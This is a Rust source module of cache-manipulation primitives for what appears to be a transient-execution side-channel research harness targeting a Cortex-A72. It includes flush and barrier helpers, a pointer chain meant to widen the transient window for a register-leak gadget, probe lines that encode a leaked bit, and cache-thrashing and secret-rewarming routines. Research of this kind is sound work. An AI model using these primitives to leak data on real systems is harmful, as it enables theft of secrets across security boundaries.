//! Cache state primitives and the buffers they operate on.
//!
//! Everything here is pinned to the cache geometry of the target (Cortex-A72,
//! 64-byte lines, 1MiB shared L2). Other architectures get equivalent
//! instructions so that the rest of the crate can be exercised off-target,
//! but the sizes are not tuned for them.

use crate::error::*;
use crate::secret::SecretStore;
use memmap2::MmapMut;
use std::hint::black_box;

/// Size of a cache line on the target.
pub const CACHE_LINE: usize = 64;

/// Evict the line containing `addr` from every level of the cache, and wait
/// until the eviction is visible to the inner-shareable domain.
#[inline(always)]
pub fn flush_line(addr: *const u8) {
    flush_line_nofence(addr);
    barrier_inner();
}

/// Evict `count` lines starting at `addr` and spaced by `stride` bytes,
/// then wait for all of them with a full-system barrier.
#[inline(always)]
pub fn flush_range(addr: *const u8, count: usize, stride: usize) {
    let mut ptr = addr;
    for _ in 0..count {
        flush_line_nofence(ptr);
        ptr = ptr.wrapping_add(stride);
    }
    barrier_full();
}

#[cfg(target_arch = "aarch64")]
#[inline(always)]
fn flush_line_nofence(addr: *const u8) {
    unsafe {
        core::arch::asm!("dc civac, {}", in(reg) addr, options(nostack));
    }
}

#[cfg(target_arch = "x86_64")]
#[inline(always)]
fn flush_line_nofence(addr: *const u8) {
    unsafe { core::arch::x86_64::_mm_clflush(addr) }
}

#[cfg(not(any(target_arch = "aarch64", target_arch = "x86_64")))]
#[inline(always)]
fn flush_line_nofence(_addr: *const u8) {}

/// Completion barrier for the inner-shareable domain (`DSB ISH`).
#[inline(always)]
pub fn barrier_inner() {
    #[cfg(target_arch = "aarch64")]
    unsafe { core::arch::asm!("dsb ish", options(nostack)) };
    #[cfg(target_arch = "x86_64")]
    unsafe { core::arch::x86_64::_mm_mfence() };
    #[cfg(not(any(target_arch = "aarch64", target_arch = "x86_64")))]
    std::sync::atomic::fence(std::sync::atomic::Ordering::SeqCst);
}

/// Full-system completion barrier (`DSB SY`).
#[inline(always)]
pub fn barrier_full() {
    #[cfg(target_arch = "aarch64")]
    unsafe { core::arch::asm!("dsb sy", options(nostack)) };
    #[cfg(not(target_arch = "aarch64"))]
    barrier_inner();
}

/// Perform a single load from `ptr`.
#[inline(always)]
pub unsafe fn maccess<T>(ptr: *const T) {
    let _ = std::ptr::read_volatile(ptr);
}

/// Emit a straight-line sequence of `CNT` NOPs.
///
/// Used to let the pipeline drain between preparing a leak and raising the
/// trigger, and again after dropping it.
#[inline(always)]
pub fn nop_sled<const CNT: usize>() {
    unsafe {
        core::arch::asm!(r#"
        .rept {cnt}
        nop
        .endr
        "#, cnt = const CNT,
        options(nomem, nostack, preserves_flags)
        );
    }
}


/// A chain of self-referential pointer-sized slots.
///
/// Slot `i * stride` holds the address of slot `(i - 1) * stride`, and the
/// tail (slot 0) holds zero. Following the chain from link `n` costs `n + 1`
/// dependent loads which all miss once the chain has been flushed, which is
/// how the register-leak gadget stalls retirement long enough to widen the
/// transient window.
pub struct DereferenceChain {
    map: MmapMut,
    links: usize,
    stride: usize,
}

impl DereferenceChain {
    /// Number of links.
    pub const LINKS: usize = 10;
    /// Distance between links in bytes.
    pub const STRIDE: usize = 8 * 1024;
    /// Number of links evicted before each leak attempt.
    pub const FLUSHED_LINKS: usize = 5;
    /// Link handed to the gadget as the head of the chain.
    pub const HEAD_LINK: usize = 3;

    pub fn new() -> TargetResult<Self> {
        Self::with_geometry(Self::LINKS, Self::STRIDE)
    }

    pub fn with_geometry(links: usize, stride: usize) -> TargetResult<Self> {
        assert!(links > 0);
        assert!(stride >= CACHE_LINE && stride % std::mem::size_of::<usize>() == 0);
        let mut map = MmapMut::map_anon(links * stride).map_err(|source| {
            TargetError::BufferAlloc { what: "dereference chain", source }
        })?;

        let base = map.as_mut_ptr();
        unsafe {
            (base as *mut usize).write(0);
            for i in 1..links {
                let slot = base.add(i * stride) as *mut usize;
                slot.write(base.add((i - 1) * stride) as usize);
            }
        }
        Ok(Self { map, links, stride })
    }

    pub fn base(&self) -> *const u8 { self.map.as_ptr() }
    pub fn links(&self) -> usize { self.links }
    pub fn stride(&self) -> usize { self.stride }

    /// Address of link `n`.
    pub fn link(&self, n: usize) -> *const usize {
        assert!(n < self.links);
        self.map[n * self.stride..].as_ptr() as *const usize
    }

    /// The value stored in link `n`.
    pub fn value(&self, n: usize) -> usize {
        unsafe { std::ptr::read_volatile(self.link(n)) }
    }

    /// Put the first [`Self::FLUSHED_LINKS`] links into an all-miss state.
    #[inline(always)]
    pub fn flush(&self) {
        flush_range(self.base(), Self::FLUSHED_LINKS.min(self.links), self.stride);
    }

    /// Follow the chain starting at link `n`, returning the number of
    /// dereferences needed to reach the tail.
    pub fn walk(&self, n: usize) -> usize {
        let mut ptr = self.link(n);
        let mut hops = 0;
        loop {
            let next = unsafe { std::ptr::read_volatile(ptr) };
            hops += 1;
            if next == 0 {
                return hops;
            }
            ptr = next as *const usize;
        }
    }
}


/// Two candidate probe lines for the register-leak gadget.
///
/// After a leak attempt exactly one of [`MissBuffer::line`]`(0)` and
/// [`MissBuffer::line`]`(1)` is expected to be resident, selected by the
/// value of the leaked register bit. The lines are one page apart so that
/// the adjacent-line prefetcher doesn't pull in the other one.
pub struct MissBuffer {
    map: MmapMut,
}

impl MissBuffer {
    /// Distance between the two probe lines. This must match the shift
    /// used by the gadget template.
    pub const LINE_STRIDE: usize = 1 << 12;

    pub fn new() -> TargetResult<Self> {
        let mut map = MmapMut::map_anon(2 * Self::LINE_STRIDE).map_err(|source| {
            TargetError::BufferAlloc { what: "miss buffer", source }
        })?;
        // Make sure both pages are backed before the first attempt.
        map[0] = 1;
        map[Self::LINE_STRIDE] = 1;
        Ok(Self { map })
    }

    pub fn base(&self) -> *const u8 { self.map.as_ptr() }

    /// Address of the probe line for bit value `value` (0 or 1).
    pub fn line(&self, value: usize) -> *const u8 {
        assert!(value < 2);
        self.map[value * Self::LINE_STRIDE..].as_ptr()
    }

    /// Evict both probe lines.
    #[inline(always)]
    pub fn flush(&self) {
        flush_range(self.base(), 2, Self::LINE_STRIDE);
    }
}


/// A buffer at least as large as the last-level cache, used only for the
/// side effect of reading it.
pub struct ThrashBuffer {
    map: MmapMut,
    passes: usize,
}

impl ThrashBuffer {
    /// Default size (4MiB, i.e. 524288 64-bit words).
    pub const DEFAULT_LEN: usize = 4 * 1024 * 1024;
    /// Number of sequential passes over the buffer per thrash.
    pub const DEFAULT_PASSES: usize = 5;

    pub fn new(len: usize, passes: usize) -> TargetResult<Self> {
        if len < CACHE_LINE || len % 8 != 0 {
            return Err(TargetError::InvalidConfig {
                what: "thrash buffer length",
                value: len,
                reason: "expected a multiple of 8 bytes, at least one cache line",
            });
        }
        let mut map = MmapMut::map_anon(len).map_err(|source| {
            TargetError::BufferAlloc { what: "thrash buffer", source }
        })?;
        // Touch every page now so that thrashing never takes a page fault.
        for off in (0..len).step_by(4096) {
            map[off] = 0;
        }
        Ok(Self { map, passes })
    }

    pub fn len(&self) -> usize { self.map.len() }
    pub fn passes(&self) -> usize { self.passes }

    /// Read the whole buffer [`Self::passes`] times, evicting whatever was
    /// cached before.
    #[inline(never)]
    pub fn thrash(&self) {
        let words = self.map.len() / 8;
        let ptr = self.map.as_ptr() as *const u64;
        let mut tmp = 0u64;
        for _ in 0..self.passes {
            for i in 0..words {
                tmp = tmp.wrapping_add(unsafe { std::ptr::read_volatile(ptr.add(i)) });
            }
        }
        black_box(tmp);
    }
}

/// Touch every byte of the secret suffix, bringing it back into the cache
/// after a [`ThrashBuffer::thrash`].
#[inline(never)]
pub fn rewarm_secret(store: &SecretStore) {
    let base = store.data_ptr();
    let mut tmp = 0u8;
    for i in store.secret_range() {
        tmp = tmp.wrapping_add(unsafe { std::ptr::read_volatile(base.add(i)) });
    }
    black_box(tmp);
}
